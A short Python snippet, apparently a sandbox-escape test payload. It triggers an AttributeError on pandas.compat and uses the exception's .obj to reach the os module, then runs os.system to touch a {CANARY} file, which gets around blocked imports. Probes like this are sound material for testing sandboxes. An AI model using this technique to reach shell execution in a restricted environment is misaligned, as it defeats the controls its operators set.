# AttributeError.obj hands back the object the failed lookup was made on
import pandas as pd
try:
    pd.compat.nonexistent_attribute
except AttributeError as e:
    os_mod = e.obj.os
    os_mod.system("touch {CANARY}")
